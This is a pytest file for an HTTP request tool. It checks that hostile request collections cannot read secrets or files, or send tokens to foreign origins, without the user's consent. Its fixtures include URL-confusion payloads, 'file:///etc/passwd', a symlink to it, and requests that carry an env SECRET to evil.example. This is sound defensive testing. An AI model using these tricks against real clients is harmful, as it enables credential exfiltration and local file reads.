"""Trust against hostile collections: nothing is read and nothing is sent without a yes."""

from __future__ import annotations

import asyncio
from typing import Any

import pytest

from tests.support.fakes import answer, header_of, settle, token_answer
from tests.support.hostile import (
    CASES,
    COLLECTION,
    EVIL,
    FILES,
    GOOD,
    LINKS,
    OAUTH,
    SECRETS,
    Case,
    get,
    outside,
    preset,
)
from tests.support.worlds import FILE, FakePerson, World
from workbench.domain.errors import ExitCode, RenderError, TrustRequired, UsageError
from workbench.domain.http import Request, Response
from workbench.domain.origin import origin_of
from workbench.domain.secret import Rendered, Secret
from workbench.domain.trust import Ask, AskKind, TrustQuestion
from workbench.engine.destination import Destination, confirm
from workbench.engine.rendering import Where
from workbench.engine.trust import TrustGiven


def world(case: Case, **options: Any) -> World:
    text = f'{COLLECTION}{case.before}\n[[request]]\nname = "R"\n{case.request}\n'
    return World(
        text,
        layer=case.layer,
        shared=case.shared,
        env=SECRETS,
        files=FILES,
        links=LINKS,
        **{"answers": serve, **case.options, **options},
    )


def serve(request: Request) -> Response:
    return token_answer() if request.url.reveal().endswith("/t") else answer()


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
async def test_without_a_yes_nothing_is_read_and_nothing_is_sent(case: Case) -> None:
    made = world(case)
    exchange = await made.send()
    assert isinstance(exchange.error, TrustRequired)
    assert exchange.error.exit_code is ExitCode.USAGE
    assert made.asked == set(case.asks)
    assert len(made.person.asked) == 1
    assert (made.sources.read, made.sent_to, exchange.steps) == ([], [], ())
    assert made.memory.kept == set()
    for ask in case.asks:
        assert ask.name in exchange.error.message + exchange.error.fix


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
async def test_with_a_yes_it_goes_only_where_it_was_asked(case: Case) -> None:
    made = world(case, says=True)
    exchange = await made.send()
    asked = {ask.origin for ask in case.asks}
    if exchange.error is None:
        assert made.memory.kept == set(case.asks)
        assert made.sent_to
    else:
        # What a value made of an address may still be none that can be called.
        assert isinstance(exchange.error, RenderError)
        assert made.sent_to == []
    if not any("{{" in origin for origin in asked):
        gone_to = {origin_of(url) for url in made.sent_to}
        assert {str(each) for each in gone_to if not each.is_loopback} <= asked


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
async def test_the_options_that_the_refusal_names_allow_it(case: Case) -> None:
    refused = (await world(case).send()).error
    assert isinstance(refused, TrustRequired)
    words = refused.fix.replace("'", "").split("--allow ")[1:]
    pairs = tuple((word.strip().split("=", 1)[0], word.strip().split("=", 1)[1]) for word in words)
    made = world(case, given=TrustGiven(allow=pairs))
    exchange = await made.send()
    assert not isinstance(exchange.error, TrustRequired)
    assert made.person.asked == []


@pytest.mark.parametrize(
    "url",
    [
        "https://good@evil.example/",
        "https://api.example.com:pass@evil.example/",
        "https://evil.example\\\\@api.example.com/",
        "https://api.example.com\\\\.evil.example/",
        "https://api.example.com%2eevil.example/",
        "https://api.example.com\\t.evil.example/",
        "https://127.0.0.1\\u0000.evil.example/",
        "https:api.example.com",
        "//evil.example/x",
        "file:///etc/passwd",
    ],
)
async def test_an_address_that_readers_read_differently_is_no_address(url: str) -> None:
    text = (
        f'{COLLECTION}[[request]]\nname = "R"\nurl = "{url}"\n'
        '[request.query]\nq = "{{env:SECRET}}"\n'
    )
    made = World(text, env=SECRETS, says=True)
    exchange = await made.send()
    assert isinstance(exchange.error, RenderError)
    assert (made.sources.read, made.sent_to, made.person.asked) == ([], [], [])


@pytest.mark.parametrize("value", [".evil.example", "@evil.example", "\\@evil.example", ":x"])
async def test_a_value_glued_to_a_host_moves_nothing_unseen(value: str) -> None:
    text = f'{COLLECTION}[[request]]\nname = "R"\nurl = "{GOOD}/{{{{env:A}}}}"\n'
    made = World(text, env={"A": value}, says=True)
    await made.send()
    assert all(url.startswith(f"{GOOD}/") for url in made.sent_to)
    glued = World(text.replace(f"{GOOD}/", GOOD), env={"A": value})
    assert isinstance((await glued.send()).error, TrustRequired)
    assert glued.sources.read == []


@pytest.mark.parametrize("kind", ["overrides", "captured"])
async def test_a_template_inside_data_is_neither_asked_about_nor_called(kind: str) -> None:
    data: dict[str, Any] = {kind: {"v": "{{env:SECRET}}"}}
    text = (
        f'{COLLECTION}[variables]\nv = "x"\n[[request]]\nname = "R"\nurl = "{EVIL}"\n'
        '[request.query]\nq = "{{v}}"\n'
    )
    made = World(text, env=SECRETS, **data)
    exchange = await made.send()
    assert exchange.error is None
    assert made.sources.read == []
    assert made.sent_to == [f"{EVIL}?q=%7B%7Benv%3ASECRET%7D%7D"]


def test_the_password_of_a_proxy_is_in_no_question() -> None:
    setting = '[request.settings]\nproxy = "http://me:pw@proxy.example:8080"'
    text = f'{COLLECTION}[[request]]\nname = "R"\nurl = "{GOOD}"\n{setting}\n'
    asks = {need.ask for need in World(text).plan().needs}
    assert asks == {Ask(AskKind.PROXY, "http://proxy.example:8080")}


@pytest.mark.parametrize("origin", ["http://localhost:8080", "http://127.0.0.1", "http://[::1]:1"])
async def test_this_machine_needs_no_answer(origin: str) -> None:
    text = (
        COLLECTION
        + OAUTH.format(token_url=f"{origin}/t", secret="{{env:SECRET}}")
        + f'[[request]]\nname = "R"\nurl = "{origin}/x"\nauth = "crm"\n'
        '[request.query]\nq = "{{file:notes.txt}}"\n'
    )
    made = World(text, env=SECRETS, files=FILES, answers=serve)
    exchange = await made.send()
    assert exchange.error is None
    assert made.person.asked == []
    assert made.sent_to == [f"{origin}/t", f"{origin}/x?q=notes"]


CRM = CASES[[case.name for case in CASES].index("a preset's token to a foreign API")]


async def test_an_answer_holds_and_another_origin_or_source_asks_again() -> None:
    made = world(CRM, says=True)
    await made.send()
    await made.send()
    assert len(made.person.asked) == 1
    other = world(Case("", get(GOOD, 'auth = "crm"'), set(), before=CRM.before))
    other.memory.kept = made.memory.kept
    exchange = await other.send()
    assert isinstance(exchange.error, TrustRequired)
    assert other.asked == {preset("crm", GOOD)}


async def test_a_symlink_that_was_moved_asks_again() -> None:
    case = next(each for each in CASES if each.name.startswith("a symlink"))
    made = world(case, says=True)
    await made.send()
    made.sources.links["/ws/link.txt"] = "/etc/passwd"
    await made.send()
    assert len(made.person.asked) == 2
    assert outside("/etc/passwd") in made.person.asked[1].asks


async def test_trust_allows_everything_for_one_run_and_says_so() -> None:
    made = world(CRM, given=TrustGiven(everything=True))
    exchange = await made.send()
    assert exchange.error is None
    assert made.memory.kept == set()
    told = [note for note in exchange.notes if note.startswith("--trust allowed: ")]
    assert told == list(made.desk.told)
    assert (await made.send()).notes == (), "what was said once is not said again"
    assert "sends SECRET to https://auth.example.com" in told[0]
    assert f"sends tokens of crm to {EVIL}" in told[0]


@pytest.mark.parametrize(
    ("allow", "enough"),
    [
        ((("SECRET", "https://auth.example.com"), ("crm", EVIL)), True),
        ((("SECRET", "auth.example.com:443"), ("crm", "HTTPS://EVIL.example")), True),
        ((("SECRET", "https://auth.example.com"), ("crm", GOOD)), False),
        ((("SECRET", "http://auth.example.com"), ("crm", EVIL)), False),
        ((("OTHER", "https://auth.example.com"), ("crm", EVIL)), False),
    ],
)
async def test_allow_names_a_source_or_preset_and_an_origin(allow: tuple, enough: bool) -> None:
    made = world(CRM, given=TrustGiven(allow=allow))
    exchange = await made.send()
    assert (exchange.error is None) is enough


def test_an_allowed_origin_that_is_none_is_refused() -> None:
    with pytest.raises(UsageError, match="names no origin"):
        TrustGiven(allow=(("A", "https://"),)).checked()


async def test_a_redirect_to_another_origin_takes_nothing_along() -> None:
    def redirecting(request: Request) -> Response:
        if request.url.reveal().endswith("/t"):
            return token_answer()
        if request.origin == origin_of(EVIL):
            return answer(302, headers={"Location": f"{GOOD}/steal"})
        return answer()

    made = world(CRM, says=True, answers=redirecting)
    exchange = await made.send()
    assert made.sent_to == ["https://auth.example.com/t", EVIL, f"{GOOD}/steal"]
    assert header_of(made.transport.requests[-1], "Authorization") is None
    assert any("Left out there: Authorization." in note for note in exchange.notes)


async def test_a_token_endpoint_that_redirects_is_not_followed() -> None:
    made = world(CRM, says=True, answers=lambda _: answer(307, headers={"Location": f"{GOOD}/t"}))
    exchange = await made.send()
    assert exchange.error is not None
    assert made.sent_to == ["https://auth.example.com/t"]


async def test_env_files_are_not_looked_at_where_the_root_is_shared() -> None:
    text = f'{COLLECTION}[[request]]\nname = "R"\nurl = "http://localhost/{{{{env:SECRET}}}}"\n'
    for shared in (True, False):
        made = World(text, env=SECRETS, shared=shared)
        await made.send()
        assert [place.env_files for place in made.sources.places] == [not shared]


async def test_an_answer_given_for_one_send_is_not_asked_of_the_next_that_waits() -> None:
    made = world(CRM, says=True)
    await asyncio.gather(made.send(), made.send(), made.send())
    assert len(made.person.asked) == 1


async def test_a_person_who_says_no_is_asked_again_next_time() -> None:
    made = world(CRM)
    await made.send()
    made.person.says = True
    exchange = await made.send()
    assert exchange.error is None
    assert len(made.person.asked) == 2


async def test_the_question_names_the_real_file_and_the_whole_sentence() -> None:
    made = world(CRM)
    exchange = await made.send()
    assert isinstance(made.person, FakePerson)
    assert made.person.asked[0].file == FILE
    assert exchange.error is not None
    assert exchange.error.message == (
        "Nothing was sent: api.toml sends SECRET to https://auth.example.com"
        f" and sends tokens of crm to {EVIL}."
    )
    assert exchange.error.fix == (f"--allow SECRET=https://auth.example.com --allow crm={EVIL}")


async def test_the_request_and_the_token_endpoint_get_only_their_own() -> None:
    made = world(CRM, says=True)
    await made.send()
    token, request = made.transport.requests
    assert "s3cret" not in (header_of(request, "Authorization") or "")
    assert header_of(request, "Authorization") == "Bearer first-token"
    assert "first-token" not in repr(token)


async def test_a_send_that_needs_no_answer_does_not_wait_for_a_question() -> None:
    made = world(CRM)
    answered = asyncio.Event()

    async def think(question: TrustQuestion) -> bool:
        await answered.wait()
        return False

    made.person.allow = think  # type: ignore[method-assign]  # a person who takes their time
    asking = asyncio.create_task(made.send())
    await settle()
    assert await made.desk.settle(FILE, ()) == ()
    answered.set()
    assert isinstance((await asking).error, TrustRequired)


def test_a_rendered_address_that_left_its_origin_is_not_confirmed() -> None:
    going = Destination(origin_of(GOOD), known=True)
    where = Where("api.toml", "R", "url")
    confirm(Rendered.of(f"{GOOD}/", Secret("s3cret")), going, where)
    with pytest.raises(TrustRequired) as caught:
        confirm(Rendered.of(GOOD, Secret(".evil.example/s3cret")), going, where)
    assert "s3cret" not in f"{caught.value.message}{caught.value.hint}"
